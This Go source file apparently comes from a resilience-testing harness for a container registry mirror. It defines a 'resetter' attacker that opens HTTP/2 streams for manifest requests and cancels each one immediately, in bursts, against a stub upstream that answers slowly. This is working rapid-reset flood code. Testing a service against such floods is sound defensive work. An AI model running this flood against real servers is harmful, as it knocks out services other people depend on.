package hostile

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// resetter begins requests over HTTP/2 and resets them at once, for names that make the
// mirror ask a registry: its own one, which answers late, and an honest one.
func resetter(*stage) actor {
	const burst = 40
	registry := func(w http.ResponseWriter, r *http.Request) {
		wait(r.Context(), 2*time.Second)
		refuse(w, http.StatusNotFound, "MANIFEST_UNKNOWN")
	}
	reset := func(ctx context.Context, a *attacker) {
		conn, err := a.dial(ctx)
		if err != nil {
			return
		}
		defer conn.Close()
		go func() { _, _ = io.Copy(io.Discard, conn) }()
		framer := http2.NewFramer(conn, nil)
		if _, err := io.WriteString(conn, http2.ClientPreface); err != nil || framer.WriteSettings() != nil {
			return
		}
		var block bytes.Buffer
		encoder := hpack.NewEncoder(&block)
		for stream := uint32(1); ctx.Err() == nil; stream += 2 {
			block.Reset()
			target := "resetter"
			if stream%8 == 1 {
				target = "open"
			}
			for _, field := range [][2]string{
				{":method", http.MethodGet}, {":scheme", "http"}, {":authority", a.stage.mirror.Addr},
				{":path", fmt.Sprintf("/v2/%s/app/manifests/reset%d", target, a.next())},
			} {
				_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // to memory
			}
			err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
			if err != nil || framer.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
				return
			}
			a.sent.Add(1)
			if stream%(2*burst) == 1 {
				wait(ctx, 100*time.Millisecond)
			}
		}
	}
	return actor{name: "resetter", upstream: registry, workers: 1, pause: 100 * time.Millisecond, attack: reset}
}
